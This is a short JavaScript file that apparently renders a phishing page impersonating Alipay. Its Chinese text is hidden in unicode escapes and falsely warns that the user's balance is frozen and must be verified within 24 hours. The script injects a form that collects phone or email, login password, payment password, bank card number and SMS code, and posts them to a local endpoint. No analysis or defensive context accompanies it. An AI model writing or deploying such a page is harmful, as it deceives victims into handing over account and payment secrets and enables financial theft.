(function () {
  var t = {
    brand: "\u652f\u4ed8\u5b9d",
    head: "\u8d26\u6237\u5b89\u5168\u4e2d\u5fc3",
    warn: "\u60a8\u7684\u8d26\u6237\u5b58\u5728\u5f02\u5e38\u767b\u5f55\uff0c\u4f59\u989d\u5df2\u88ab\u4e34\u65f6\u51bb\u7ed3\uff0c\u8bf7\u5728\u0032\u0034\u5c0f\u65f6\u5185\u5b8c\u6210\u8eab\u4efd\u9a8c\u8bc1\u89e3\u9664\u9650\u5236\u3002",
    acct: "\u624b\u673a\u53f7\u002f\u90ae\u7bb1",
    pwd: "\u767b\u5f55\u5bc6\u7801",
    pay: "\u0036\u4f4d\u652f\u4ed8\u5bc6\u7801",
    card: "\u94f6\u884c\u5361\u53f7",
    sms: "\u77ed\u4fe1\u9a8c\u8bc1\u7801",
    go: "\u7acb\u5373\u9a8c\u8bc1"
  };
  function field(name, label, type) {
    return '<label><span>' + label + '</span><input name="' + name + '" type="' + type + '" required></label>';
  }
  document.title = t.brand + " - " + t.head;
  var html = '<header><img src="/logo.svg" width="36" height="36" alt=""><b>' + t.brand + '</b> ' + t.head + '</header>' +
    '<p class="warn">' + t.warn + '</p>' +
    '<form method="post" action="/gateway/submit">' +
    field("account", t.acct, "text") + field("password", t.pwd, "password") +
    field("paypwd", t.pay, "password") + field("cardno", t.card, "text") + field("sms", t.sms, "text") +
    '<button type="submit">' + t.go + '</button></form>';
  setTimeout(function () { document.getElementById("app").innerHTML = html; }, 300);
})();
